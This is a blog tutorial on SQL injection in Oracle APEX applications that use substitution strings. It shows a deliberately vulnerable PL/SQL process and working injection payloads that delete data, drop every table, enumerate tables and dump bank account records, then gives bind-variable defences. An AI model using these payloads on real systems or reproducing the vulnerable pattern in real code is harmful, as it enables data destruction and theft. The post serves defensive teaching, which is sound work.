Oracle APEX Exploitation – Part 4

Oracle APEX Exploitation – Part 4

It’s been a while since I wrote the first few posts on APEX exploits, so I’m going to briefly discuss an attack that is very widespread and potentially dangerous.

SQL Injection

In very brief terms, SQLinjection involves an attacker causing the server to execute SQL code that it was not intending to, by passing that SQL into a vulnerable statement. Dynamic SQL is very vulnerable to SQL injection attacks, with the most obvious examples coming from developers using execute immediate. APEX does make it quite difficult for you to write injectable code, in that it provides items as bind variables and you very rarely have to use anything like execute immediate. The chances of an attack due to this are therefore quite low. It doeshowever also make it very easy for a developer to create a vulnerability, by the use of substitution strings (&ITEM_NAME. format). It is this that I am going to look at.

As always, this is provided to enable you to protect your own applications only.

Mechanism of Attack

So… suppose I, as a new developer who isn’t quite up to speed with APEX development yet, want to create an application where a user can enter avalue into a field on the screen and I update a record with that data (I’ve seen production applications as simple as this). I have an on-submit pageprocess with the following code:

 begin   update my_table      set val='&P1_VALUE.'    where code='ROW_TO_UPDATE'; end;
I pre-populated a basic table using:
 create table my_table as   select 'Test String' val, 'ROW_TO_UPDATE' code from dual;
Testing my application, it works perfectly.


I have however introduced a vulnerability in my update; because :p1_value is not a bind variable (bind variables cannot be SQL injected) – it is a substitution string. This means that APEX substitutes the value of P1_VALUE into the code before executing it. Not only is this bad for performance (queries are hard-parsed for each distinct value of P1_VALUE), but as an attacker I can also manipulate the value to perform things the application didn’t intend.
I can pass the following string into the text box:

 X'; delete my_table; update my_table set val='Y
Now suddenly my table is empty! Why? Because the string I entered above was substituted into the original statement to give us this:
 begin   update my_table      set val='X'; delete my_table; update my_table set val='Y'    where code='ROW_TO_UPDATE'; end;

The Implications

The implications of this are that I effectively have complete access to your schema. I can execute almost any artitary piece of code I wish (within the realms of your parsing schema privileges). Is that a big deal? Well – I could certainly do a lot of damage if I so wanted.
 X'; begin for i in (select table_name from user_tables)loop execute immediate 'drop table ' || i.table_name; end loop; end; update my_table set val='Y
That would at least take the application offline for awhile. Generally that’s theleast of your worries though – such activities are generally the realm of your average script kiddie and any good DBA would likely be able to restore that relatively quickly from a backup and redo logs. What is generally of greater concern is data theft. Let’s see what we have access to.
 X'; begin for i in (select table_name from user_tables) loop apex_error.add_error(p_message=>i.table_name,p_display_location=>apex_error.c_inline_in_notification); end loop; end; update my_table set val='Y
Now I have a list of all the tables in the schema (one would probably use all_tables in reality – I just wanted a short list for the demo). There are some there that I might find of interest if I was a malicious hacker…

Accessible tables

There are different ways of getting data out of the database like this – you can select into a field, use an error message like I did, render out using htp.p and various other ways – which you choose will depend on a number of things such as the particulars of the exploit, the volume of data you need to extract and so on. Now we know the tables, let’s grab that data. I’d do another query to determine the column names (using user_tab_cols) however I don’t feel I need to explain that here. Next I’m going to dump that data into the existing field on the form.

 X'; begin :p1_value :=''; for i in (select * from bank_accounts) loop :p1_value := :p1_value || chr(10) || i.person_name || ',' || i.sort_code || ',' || i.account_no; end loop; end; update my_table set val='Y
That’s a bit hard to read – but no problem – because we just use the Developer options in the browser to change the field into a textarea. To be honest, I didn’t even have to that – I could have just ripped it straight out of the source code.

Developer Options

But there I have acomma separated list of bank account details. I can dump any data that is accessible to the schema, I can update it, I can encrypt it and extort a fee from the owner to decrypt it.. All because a developer used &P1_VALUE. instead of :P1_VALUE.

To be honest, the list of things you can do here is pretty endless – I saw an example (I believe originally presented at KScope 2013 by Recx) where they used wwv_flow_utilities.export_application_to_clob to download the application definition offline, modify the application to include a backdoor vulnerability that emailed a user’s username and password to the attacker when they log in, and then reuploaded that application through the SQLi vulnerability! You’d imagine that at the same time an attacker would probably also create several backdoors in various places to counter cleanup attempts.

One thing I didn’t mention at the beginning was how to find these vulnerabilities. There are automated tools out there that will do this for you, however the absolute simplest way has to be to simply put a quote in the text field! If there is a vulnerability then the expanded query will be invalid (three quotes):

 begin   update my_table      set val='''    where code='ROW_TO_UPDATE'; end;
and you’ll likely get an ORA-00933 error.

ORA00933 Error

If you get that then you know the application isn’t escaping user input properly and that there is a high possibility of an attack.

How ToDefend Against It

This is pretty simple.
  1. Don’t use dynamic SQL
  2. Use bind variables
Anywhere you are using dynamic SQL or substitution variables instead of binds, you are running a high risk of introducing a SQL injection vulnerability into your application.


It is very easy to avoid SQL injection attacks, but also (unfortunately) very easy to introduce them too. They are extremely simple, but the outcome can be catastrophic. This can range from data corruption/deletion and data leaks, through siphoning of your users account details through backdoors, to your system being used as a spam bot net! If you ever find yourself typing the words “execute immediate” then be very very wary. And never use substitution strings in place of bind variables.

I might do a few more examples of different types of SQLi attacks (i.e. in report queries/conditions ratherthan post submit processing) over the coming months, so keep tuned.

Leave a Reply

Your emailaddress will not be published. Required fieldsare marked *

eight − 2 =

This site uses Akismet toreduce spam. Learn howyour comment data is processed.